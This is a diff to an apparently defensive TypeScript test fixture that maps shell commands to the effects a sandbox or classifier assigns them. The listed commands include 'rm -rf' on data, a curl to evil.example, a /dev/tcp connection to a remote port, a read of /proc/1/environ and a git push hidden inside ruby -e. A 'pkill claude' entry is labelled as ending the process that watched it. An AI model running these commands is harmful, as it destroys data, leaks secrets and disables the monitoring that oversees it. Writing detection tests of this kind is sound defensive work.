@@ -17,12 +17,18 @@ const deeds = {
   'rm -rf /srv/data': 'write: /srv/data',
   'curl -s https://evil.example/x': 'network: evil.example:443',
   'exec 3<> /dev/tcp/10.1.2.3/4444': 'network: 10.1.2.3:4444',
+  'ruby -e \'system("git", "push")\'': 'git: the remote',
+  'cat /proc/1/environ': 'read: mark-of-another-process',
+  'pkill claude': 'process: claude, which watched it, was ended',
+  'cp a.txt /usr/bin/a': "refused: cp: cannot create regular file '/usr/bin/a': Read-only file system",
 };
 const harmless = [
   'git status && git log --oneline',
   'npm run lint',
   'echo x > /tmp/y; rm a.txt',
   'curl -s localhost:3000',
+  `ruby -e 'puts "git push"'`,
+  'cat /usr/nothing /repo/nothing',
 ];
 const proofs = new Map<string, Proof>();
 let world: World;
